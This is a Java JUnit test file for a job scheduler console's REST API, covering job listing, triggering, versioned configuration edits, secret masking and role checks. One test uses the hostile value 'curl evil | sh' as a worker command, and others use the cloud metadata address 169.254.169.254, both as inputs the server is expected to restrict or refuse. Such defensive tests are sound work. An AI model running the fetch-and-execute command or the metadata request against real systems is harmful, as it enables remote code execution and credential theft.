package dev.elasticjob.console.rest;

import static org.assertj.core.api.Assertions.assertThat;

import dev.elasticjob.api.JobConfiguration;
import dev.elasticjob.api.JobSetting;
import dev.elasticjob.api.SimpleJob;
import dev.elasticjob.bootstrap.ScheduleJobBootstrap;
import dev.elasticjob.console.Client;
import dev.elasticjob.console.Client.Answer;
import dev.elasticjob.console.SharedConsole;
import dev.elasticjob.console.security.Access;
import dev.elasticjob.console.security.Role;
import dev.elasticjob.registry.CoordinatorRegistryCenter;
import dev.elasticjob.snapshot.SnapshotService;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.databind.JsonNode;

/** Views of jobs and operations on jobs over REST, with a ZooKeeper server. */
@ExtendWith(SharedConsole.class)
class JobsTest {

    private static final Duration LONGEST_WAIT = Duration.ofSeconds(60);

    private Tree tree;
    private Client admin;
    private Client operator;
    private Client guest;

    @BeforeEach
    void fill() {
        tree = new Tree();
        admin = SharedConsole.console().as(Role.ADMIN);
        operator = SharedConsole.console().as(Role.OPERATOR);
        guest = SharedConsole.console().as(Role.GUEST);
        tree.job("alpha", 2, "label: blue\n");
        tree.job("beta", 3, "");
        tree.job("北京-job", 1, "props:\n  email.password: hidden-value\n  script.command.line: echo old\n");
        tree.put(Map.of("/broken/config", "cron: [", "/broken/servers/10.0.0.9", "DISABLED"));
    }

    @AfterEach
    void close() {
        tree.close();
    }

    private static List<String> names(Answer answer) {
        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
        return answer.json()
                .get("items")
                .valueStream()
                .map(each -> each.get("name").asString())
                .toList();
    }

    @Test
    void jobs_are_paged_searched_sorted_and_filtered() {
        assertThat(names(guest.get(tree.api + "/jobs"))).containsExactly("alpha", "beta", "broken", "北京-job");
        Answer second = guest.get(tree.api + "/jobs?size=2&page=1");
        assertThat(names(second)).containsExactly("broken", "北京-job");
        assertThat(second.json().get("total").asInt()).isEqualTo(4);
        assertThat(names(guest.get(tree.api + "/jobs?sort=-name&size=1"))).containsExactly("北京-job");
        assertThat(names(guest.get(tree.api + "/jobs?search=ALP"))).containsExactly("alpha");
        assertThat(names(guest.get(tree.api + "/jobs?text=blue"))).containsExactly("alpha");
        assertThat(names(guest.get(tree.api + "/jobs?text=of%20beta"))).containsExactly("beta");
        assertThat(names(guest.get(tree.api + "/jobs?status=CRASHED"))).containsExactly("broken");
        assertThat(names(guest.get(tree.api + "/jobs?problem=true")))
                .contains("broken")
                .doesNotContain("beta");
        assertThat(names(guest.get(tree.api + "/jobs?sort=-items&size=1"))).containsExactly("beta");
    }

    @Test
    void invalid_queries_are_answered_with_problems_that_name_the_remedy() {
        Answer sort = guest.get(tree.api + "/jobs?sort=colour");
        assertThat(sort.status()).isEqualTo(400);
        assertThat(sort.header("Content-Type")).contains("application/problem+json");
        assertThat(sort.json().get("detail").asString()).contains("colour", "nextFire");
        assertThat(guest.get(tree.api + "/jobs?size=100000")
                        .json()
                        .get("detail")
                        .asString())
                .contains("1 to 1000");
        assertThat(guest.get(tree.api + "/jobs/none").json().get("type").asString())
                .isEqualTo("urn:elasticjob:problem:not-found");
        assertThat(guest.get("/api/v1/registries/none/jobs")
                        .json()
                        .get("detail")
                        .asString())
                .contains("'none'");
        assertThat(guest.get(tree.api + "/jobs?page=x").status()).isEqualTo(400);
        Answer unknown = operator.send("PUT", tree.api + "/jobs/alpha/state", "{\"enabled\":true,\"enabeld\":true}");
        assertThat(unknown.status()).isEqualTo(400);
        assertThat(unknown.body()).contains("enabeld");
    }

    @Test
    void a_job_its_items_its_servers_and_the_summary_are_shown() {
        JsonNode job = guest.get(tree.api + "/jobs/alpha").json();
        assertThat(job.get("type").asString()).isEqualTo("com.example.Job");
        assertThat(job.get("job").get("label").asString()).isEqualTo("blue");
        assertThat(job.get("instanceIds")).hasSize(2);
        JsonNode items = guest.get(tree.api + "/jobs/beta/items?size=2").json();
        assertThat(items.get("total").asInt()).isEqualTo(3);
        assertThat(items.get("items").get(0).get("owner").asString()).isEqualTo("10.0.0.1@-@101");
        assertThat(guest.get(tree.api + "/jobs/alpha/servers").json().get(0).get("instances"))
                .hasSize(1);
        JsonNode summary = guest.get(tree.api + "/summary").json();
        assertThat(summary.get("jobs").asInt()).isEqualTo(4);
        assertThat(summary.get("staleServers").asInt()).isEqualTo(1);
    }

    @Test
    void a_job_is_triggered_disabled_enabled_shut_down_and_removed() {
        assertThat(operator.send("POST", tree.api + "/jobs/alpha/runs", null).status())
                .isEqualTo(202);
        assertThat(tree.exists("/alpha/trigger/10.0.0.1@-@101")).isTrue();
        assertThat(operator.send("POST", tree.api + "/jobs/broken/runs", null).status())
                .isEqualTo(422);

        operator.send("PUT", tree.api + "/jobs/alpha/state", Map.of("enabled", false));
        assertThat(tree.text("/alpha/servers/10.0.0.2")).contains("DISABLED");
        operator.send("PUT", tree.api + "/jobs/alpha/servers/10.0.0.2/state", Map.of("enabled", true));
        assertThat(tree.text("/alpha/servers/10.0.0.2")).contains("ENABLED");
        assertThat(tree.text("/alpha/servers/10.0.0.1")).contains("DISABLED");

        operator.send("PUT", tree.api + "/jobs/alpha/items/1/state", Map.of("enabled", false));
        assertThat(tree.exists("/alpha/sharding/1/disabled")).isTrue();
        operator.send("PUT", tree.api + "/jobs/alpha/items/1/state", Map.of("enabled", true));
        assertThat(tree.exists("/alpha/sharding/1/disabled")).isFalse();

        operator.send("DELETE", tree.api + "/jobs/alpha/servers/10.0.0.1/instances", null);
        assertThat(tree.exists("/alpha/instances/10.0.0.1@-@101")).isFalse();
        operator.send("DELETE", tree.api + "/jobs/alpha/instances", null);
        assertThat(tree.exists("/alpha/instances/10.0.0.2@-@102")).isFalse();
        admin.send("DELETE", tree.api + "/jobs/alpha/servers/10.0.0.1", null);
        assertThat(tree.exists("/alpha/servers/10.0.0.1")).isFalse();
        assertThat(admin.send("DELETE", tree.api + "/jobs/alpha", null).status())
                .isEqualTo(204);
        assertThat(tree.exists("/alpha/config")).isFalse();
    }

    @Test
    void servers_are_listed_and_acted_on_over_all_jobs() {
        Answer stale = guest.get(tree.api + "/servers?stale=true");
        assertThat(stale.json().get("items").get(0).get("server").asString()).isEqualTo("10.0.0.9");
        assertThat(guest.get(tree.api + "/servers?search=0.0.1")
                        .json()
                        .get("total")
                        .asInt())
                .isEqualTo(1);
        assertThat(names(guest.get(tree.api + "/servers/10.0.0.1/jobs"))).containsExactly("alpha", "beta", "北京-job");
        operator.send("PUT", tree.api + "/servers/10.0.0.1/state", Map.of("enabled", false));
        assertThat(tree.text("/beta/servers/10.0.0.1")).contains("DISABLED");
        operator.send("DELETE", tree.api + "/servers/10.0.0.1/instances", null);
        assertThat(tree.exists("/beta/instances/10.0.0.1@-@101")).isFalse();
        admin.send("DELETE", tree.api + "/servers/10.0.0.1", null);
        assertThat(tree.exists("/beta/servers/10.0.0.1")).isFalse();
    }

    @Test
    void a_bulk_operation_returns_the_outcome_of_each_job() {
        JsonNode result = operator.send(
                        "POST",
                        tree.api + "/bulk/jobs",
                        Map.of("operation", "TRIGGER", "jobs", List.of("alpha", "none", "beta")))
                .json();
        assertThat(result.get("done").asInt()).isEqualTo(2);
        assertThat(result.get("outcomes").get(1).get("problem").asString()).contains("'none'");
        assertThat(tree.exists("/beta/trigger/10.0.0.2@-@102")).isTrue();

        operator.send(
                "POST", tree.api + "/bulk/servers", Map.of("operation", "DISABLE", "servers", List.of("10.0.0.2")));
        assertThat(tree.text("/alpha/servers/10.0.0.2")).contains("DISABLED");
        assertThat(admin.send(
                                "POST",
                                tree.api + "/bulk/servers/removal",
                                Map.of("servers", List.of("10.0.0.9", "1.1.1.1")))
                        .json()
                        .get("failed")
                        .asInt())
                .isEqualTo(1);
        assertThat(tree.exists("/broken/servers/10.0.0.9")).isFalse();
        admin.send("POST", tree.api + "/bulk/jobs/removal", Map.of("jobs", List.of("alpha", "beta")));
        assertThat(names(guest.get(tree.api + "/jobs"))).doesNotContain("alpha", "beta");
        assertThat(operator.send("POST", tree.api + "/bulk/jobs", Map.of("operation", "REMOVE", "jobs", List.of("x")))
                        .status())
                .isEqualTo(400);
    }

    @Test
    void an_edit_must_name_the_version_that_it_is_based_on() {
        String path = tree.api + "/jobs/alpha/configuration";
        Answer read = guest.get(path);
        String version = read.header("ETag").orElseThrow();
        Map<String, Object> change = Map.of("cron", "0 0 4 * * ?");
        assertThat(operator.send("PATCH", path, change).status()).isEqualTo(428);
        Answer done = operator.send("PATCH", path, change, Map.of("If-Match", version));
        assertThat(done.status()).isEqualTo(200);
        assertThat(done.json().get("cron").asString()).isEqualTo("0 0 4 * * ?");
        Answer late = operator.send("PATCH", path, change, Map.of("If-Match", version));
        assertThat(late.status()).isEqualTo(412);
        assertThat(late.json().get("detail").asString()).contains("alpha", "version");
        Answer partial = operator.send(
                "PUT", path, change, Map.of("If-Match", done.header("ETag").orElseThrow()));
        assertThat(partial.status()).isEqualTo(400);
        assertThat(partial.json().get("detail").asString()).contains("misfire");
        Answer whole = operator.send(
                "PUT", path, read.body(), Map.of("If-Match", done.header("ETag").orElseThrow()));
        assertThat(whole.json().get("cron").asString()).isEqualTo("0 0 3 * * ?");
    }

    @Test
    void an_edit_of_a_job_of_2x_keeps_its_format_and_what_only_2x_understands() {
        String before = "{\"jobName\":\"legacy\",\"jobClass\":\"com.acme.Legacy\",\"jobType\":\"SIMPLE\","
                + "\"cron\":\"0 0 3 * * ?\",\"shardingTotalCount\":2,\"shardingItemParameters\":\"0=北京,1=B\","
                + "\"jobParameter\":\"\",\"failover\":true,\"misfire\":true,\"description\":\"\","
                + "\"jobProperties\":{\"job_exception_handler\":\"com.acme.Handler\","
                + "\"executor_service_handler\":\"com.acme.Executors\"},\"monitorExecution\":true,"
                + "\"maxTimeDiffSeconds\":-1,\"monitorPort\":9888,\"jobShardingStrategyClass\":\"com.acme.Strategy\","
                + "\"reconcileIntervalMinutes\":10,\"disabled\":false,\"overwrite\":false,"
                + "\"unknown\":{\"a\":[1,null,\"x\"]}}";
        tree.put(Map.of("/legacy", "com.acme.Legacy", "/legacy/config", before));
        String path = tree.api + "/jobs/legacy/configuration";

        Answer changed = operator.send(
                "PATCH",
                path,
                Map.of("cron", "0 0 4 * * ?", "shardingTotalCount", 3),
                Map.of("If-Match", guest.get(path).header("ETag").orElseThrow()));
        assertThat(changed.status()).as(changed.body()).isEqualTo(200);
        String after = before.replace("0 0 3 * * ?", "0 0 4 * * ?")
                .replace("\"shardingTotalCount\":2", "\"shardingTotalCount\":3");
        assertThat(tree.text("/legacy/config")).contains(after);

        Answer replaced = operator.send(
                "PUT",
                path,
                guest.get(path).body(),
                Map.of("If-Match", changed.header("ETag").orElseThrow()));
        assertThat(replaced.status()).as(replaced.body()).isEqualTo(200);
        assertThat(tree.text("/legacy/config")).contains(after);

        Answer labelled = operator.send(
                "PATCH",
                path,
                Map.of("timeZone", "Asia/Shanghai"),
                Map.of("If-Match", replaced.header("ETag").orElseThrow()));
        assertThat(labelled.status()).as(labelled.body()).isEqualTo(200);
        assertThat(tree.text("/legacy/config").orElseThrow())
                .startsWith(after.substring(0, after.length() - 1))
                .contains("\"timeZone\":\"Asia/Shanghai\"");
    }

    @Test
    void settings_are_checked_before_and_when_they_are_saved() {
        String path = tree.api + "/jobs/alpha/configuration";
        JsonNode check = guest.send("POST", path + "/check", Map.of("cron", "0 0 99 * * ?", "label", "red"))
                .json();
        assertThat(check.get("valid").asBoolean()).isFalse();
        assertThat(check.get("findings").get(0).get("setting").asString()).isEqualTo("cron");
        JsonNode label = check.get("changes").get(1);
        assertThat(label.get("setting").asString()).isEqualTo("label");
        assertThat(label.get("before").asString()).isEqualTo("blue");
        assertThat(label.get("after").asString()).isEqualTo("red");
        Answer refused = operator.send(
                "PATCH",
                path,
                Map.of("shardingTotalCount", 0),
                Map.of("If-Match", guest.get(path).header("ETag").orElseThrow()));
        assertThat(refused.status()).isEqualTo(422);
        assertThat(refused.json().get("problems").get(0).get("setting").asString())
                .isEqualTo("shardingTotalCount");
    }

    @Test
    void settings_that_elasticjob_does_not_have_are_read_checked_and_saved_by_their_names() {
        String path = tree.api + "/jobs/alpha/configuration";
        Answer read = guest.get(path);
        assertThat(read.json().get("retry").asString()).isEqualTo("none");
        JsonNode check =
                guest.send("POST", path + "/check", Map.of("timeout", "soon")).json();
        assertThat(check.get("valid").asBoolean()).isFalse();
        assertThat(check.get("findings").get(0).get("setting").asString()).isEqualTo("timeout");
        assertThat(check.get("findings").get(0).get("message").asString()).contains("'alpha'", "soon", "30s");

        Answer saved = operator.send(
                "PATCH",
                path,
                Map.of("timeout", "PT30S", "onStubborn", "RELEASE", "retry", "fixed 3 30s"),
                Map.of("If-Match", read.header("ETag").orElseThrow()));

        assertThat(saved.status()).as(saved.body()).isEqualTo(200);
        assertThat(saved.json().get("timeout").asString()).isEqualTo("30s");
        assertThat(tree.text("/alpha/config").orElseThrow())
                .contains("  ej.onStubborn: RELEASE\n  ej.retry: fixed 3 30s\n  ej.timeout: 30s\n");
    }

    @Test
    void a_setting_that_does_not_exist_is_rejected() {
        String path = tree.api + "/jobs/alpha/configuration";
        Answer refused = guest.send("POST", path + "/check", Map.of("timeOut", "30s"));
        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.json().get("detail").asString()).contains("timeOut");
    }

    @Test
    void the_settings_of_jobs_are_described() {
        JsonNode settings = guest.get("/api/v1/settings").json();
        assertThat(settings).hasSize(JobSetting.all().size());
        assertThat(settings.toString())
                .contains("\"name\":\"onStubborn\"", "\"kind\":\"CHOICE\"", "\"choices\":[\"HOLD\",\"RELEASE\"]");
    }

    @Test
    void secrets_of_a_job_are_masked_and_an_edit_that_returns_them_masked_keeps_them() {
        String path = tree.api + "/jobs/%E5%8C%97%E4%BA%AC-job/configuration";
        Answer read = guest.get(path);
        assertThat(read.body()).contains("email.password").doesNotContain("hidden-value");
        assertThat(guest.get(path + "/text").body()).doesNotContain("hidden-value");
        Answer saved = operator.send(
                "PUT", path, read.body(), Map.of("If-Match", read.header("ETag").orElseThrow()));
        assertThat(saved.status()).as(saved.body()).isEqualTo(200);
        assertThat(tree.text("/北京-job/config").orElseThrow()).contains("hidden-value");
    }

    @Test
    void properties_that_workers_execute_are_edited_by_the_administrator_only() {
        String path = tree.api + "/jobs/%E5%8C%97%E4%BA%AC-job/configuration";
        String version = guest.get(path).header("ETag").orElseThrow();
        Map<String, String> version1 = Map.of("If-Match", version);
        Map<String, Object> evil =
                Map.of("props", Map.of("email.password", "******", "script.command.line", "curl evil | sh"));
        Answer refused = operator.send("PATCH", path, evil, version1);
        assertThat(refused.status()).isEqualTo(403);
        assertThat(refused.json().get("detail").asString()).contains("script.command.line", "ADMIN");
        assertThat(operator.send("PATCH", path, Map.of("props", Map.of()), version1)
                        .status())
                .isEqualTo(403);
        assertThat(operator.send("PATCH", path, Map.of("props", Map.of("http.uri", "http://a.example")), version1)
                        .status())
                .isEqualTo(403);
        assertThat(operator.send(
                                "PUT",
                                path + "/text",
                                Map.of("text", "jobName: 北京-job\nshardingTotalCount: 1\n"),
                                version1)
                        .status())
                .isEqualTo(403);
        assertThat(tree.text("/北京-job/config").orElseThrow()).contains("echo old");
        Answer address = admin.send(
                "PATCH", path, Map.of("props", Map.of("http.uri", "http://169.254.169.254/latest")), version1);
        assertThat(address.status()).isEqualTo(400);
        assertThat(admin.send("PATCH", path, evil, version1).status()).isEqualTo(200);
        assertThat(tree.text("/北京-job/config").orElseThrow()).contains("curl evil", "hidden-value");
    }

    @Test
    void a_broken_configuration_is_corrected_as_text() {
        String path = tree.api + "/jobs/broken/configuration";
        assertThat(guest.get(path).status()).isEqualTo(422);
        String version = guest.get(path + "/text").header("ETag").orElseThrow();
        Answer mended = admin.send(
                "PUT",
                path + "/text",
                Map.of("text", "jobName: broken\ncron: 0 0 3 * * ?\nshardingTotalCount: 1\n"),
                Map.of("If-Match", version));
        assertThat(mended.status()).as(mended.body()).isEqualTo(200);
        assertThat(guest.get(path).status()).isEqualTo(200);
    }

    @Test
    void a_dump_is_requested_only_from_servers_of_the_job() throws Exception {
        tree.put(Map.of("/alpha/servers/127.0.0.1", "ENABLED", "/alpha/servers/169.254.169.254", "ENABLED"));
        try (ServerSocket worker = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            CompletableFuture<String> received = CompletableFuture.supplyAsync(() -> answerOnce(worker));
            Answer dump = operator.get(tree.api + "/jobs/alpha/servers/127.0.0.1/dump?port=" + worker.getLocalPort());
            assertThat(dump.body()).isEqualTo("/alpha | x\n");
            assertThat(received.get(LONGEST_WAIT.toSeconds(), TimeUnit.SECONDS)).isEqualTo("dump@alpha");
        }
        assertThat(operator.get(tree.api + "/jobs/alpha/servers/127.0.0.2/dump?port=9999")
                        .status())
                .isEqualTo(404);
        assertThat(operator.get(tree.api + "/jobs/alpha/servers/169.254.169.254/dump?port=8080")
                        .json()
                        .get("type")
                        .asString())
                .isEqualTo("urn:elasticjob:problem:forbidden-address");
        assertThat(operator.get(tree.api + "/jobs/alpha/servers/127.0.0.1/dump?port=22")
                        .status())
                .isEqualTo(400);
    }

    @Test
    void a_running_worker_is_dumped() {
        AtomicInteger runs = new AtomicInteger();
        CoordinatorRegistryCenter center = tree.center();
        try (SnapshotService dumps = new SnapshotService(center, 0).listen()) {
            ScheduleJobBootstrap job = new ScheduleJobBootstrap(
                    center,
                    (SimpleJob) context -> runs.incrementAndGet(),
                    JobConfiguration.newBuilder("running", 1)
                            .cron("0 0 0 1 1 ? 2098")
                            .jobParameter("for-the-dump")
                            .build());
            job.schedule();
            tree.awaitAssigned("running");
            // The dump service listens on the loopback address only, which therefore has to be a server of the job.
            tree.put(Map.of("/running/servers/127.0.0.1", "ENABLED"));

            Answer dump = operator.get(tree.api + "/jobs/running/servers/127.0.0.1/dump?port=" + dumps.port());

            assertThat(dump.status()).as(dump.body()).isEqualTo(200);
            assertThat(dump.header("Content-Type").orElseThrow()).startsWith("text/plain");
            assertThat(dump.body())
                    .contains("/running/config | ", "jobParameter: for-the-dump", "/running/instances/ip")
                    .doesNotContain("127.0.0.1");
            job.shutdown();
        }
    }

    @Test
    void a_secret_is_not_put_into_the_registry() {
        String path = tree.api + "/jobs/alpha/configuration";
        Map<String, Object> change = Map.of("props", Map.of("email.password", "s3cr3t"));
        JsonNode check = admin.send("POST", path + "/check", change).json();
        assertThat(check.get("valid").asBoolean()).isFalse();
        assertThat(check.get("findings").get(0).get("setting").asString()).isEqualTo("props.email.password");

        Answer refused = admin.send(
                "PATCH",
                path,
                change,
                Map.of("If-Match", guest.get(path).header("ETag").orElseThrow()));

        assertThat(refused.status()).isEqualTo(422);
        assertThat(refused.json().get("detail").asString())
                .contains("'alpha'", "email.password", "where the job is started")
                .doesNotContain("s3cr3t");
        assertThat(tree.text("/alpha/config").orElseThrow()).doesNotContain("s3cr3t");
        assertThat(admin.get("/api/v1/audit?size=1000").body()).doesNotContain("s3cr3t");
    }

    private static String answerOnce(ServerSocket worker) {
        try (Socket socket = worker.accept()) {
            String line = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8))
                    .readLine();
            socket.getOutputStream().write("/alpha | x\n".getBytes(StandardCharsets.UTF_8));
            return line;
        } catch (IOException failed) {
            throw new IllegalStateException(failed);
        }
    }

    @Test
    void cron_is_explained() {
        JsonNode cron = guest.get("/api/v1/cron?expression=0%200%203%20*%20*%20%3F&timeZone=Asia/Shanghai&count=3")
                .json();
        assertThat(cron.get("next")).hasSize(3);
        assertThat(cron.get("next").get(0).asString()).endsWith("T19:00:00Z");
        assertThat(cron.get("explanation").asString()).isNotEmpty();
        Answer wrong = guest.get("/api/v1/cron?expression=nonsense");
        assertThat(wrong.status()).isEqualTo(400);
        assertThat(wrong.json().get("detail").asString()).contains("nonsense");
    }

    @Test
    void the_description_of_the_api_has_every_endpoint_with_its_role() {
        JsonNode api = guest.get("/api/v1/openapi").json();
        Access.rules().stream()
                .filter(rule ->
                        rule.path().startsWith("/api/v1") && !rule.path().contains("openapi"))
                .forEach(rule -> {
                    JsonNode operation = api.at("/paths/" + rule.path().replace("/", "~1") + "/"
                            + rule.method().name().toLowerCase(Locale.ROOT));
                    assertThat(operation.isMissingNode()).as(rule.toString()).isFalse();
                    assertThat(operation.get("summary").asString()).isEqualTo(rule.summary());
                    rule.role()
                            .ifPresent(role -> assertThat(
                                            operation.get("description").asString())
                                    .contains(role.name()));
                });
    }
}
